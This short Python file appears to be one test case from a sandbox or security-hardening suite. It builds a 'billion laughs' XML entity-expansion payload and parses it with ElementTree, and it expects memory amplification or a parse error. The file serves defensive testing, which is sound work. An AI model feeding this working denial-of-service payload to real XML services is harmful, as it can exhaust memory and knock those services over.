# attack: expand a few entities of XML into a lot of memory
# expect: amplification | ParseError | memory
# layers: always
import xml.etree.ElementTree as tree


def main(canary):
    entities = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return len(tree.fromstring(f'<!DOCTYPE x [<!ENTITY e0 "xxxxxxxxxx">{entities}]><x>&e9;</x>').text)
